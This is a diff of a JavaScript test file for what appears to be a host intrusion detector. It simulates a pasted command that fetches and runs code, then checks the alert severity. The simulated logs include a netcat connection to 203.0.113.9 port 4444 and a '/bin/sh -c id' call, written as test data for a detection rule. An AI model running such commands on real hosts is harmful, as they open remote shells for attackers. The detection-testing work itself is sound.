@@ -203,10 +203,18 @@ test('a short program that gets a text by itself and runs it is a pasted command
     const [alert] = await alertsOf(log);
     // The only connection is the fetch itself.
     assert.deepEqual([alert?.severity, alert?.story.includes('reached out')], ['medium', false]);
-    python.run('/bin/sh -c id').run('/usr/bin/nc 203.0.113.9 4444').connect('203.0.113.9', 4444);
+    python.run('/bin/sh -c id').run('/home/dev/.cache/pipe').connect('203.0.113.9', 4444);
     const [more] = await alertsOf(log);
     assert.equal(more?.severity, network ? 'high' : 'medium');
   }
+});
+
+test('where no connection is recorded, the words of a transfer program that it starts tell', async () => {
+  const log = new HostLog({ network: false });
+  log.desktop('dev').run('/usr/lib/firefox/firefox');
+  log.wait(5 * MINUTE);
+  log.shell('dev').run(['/usr/bin/python3', '-c', GET]).run('/usr/bin/nc 203.0.113.9 4444');
+  firesAt(await alertsOf(log), 'AN0321', 'high');
 });
 
 test('a short program that gets a text and shows it runs nothing', async () => {
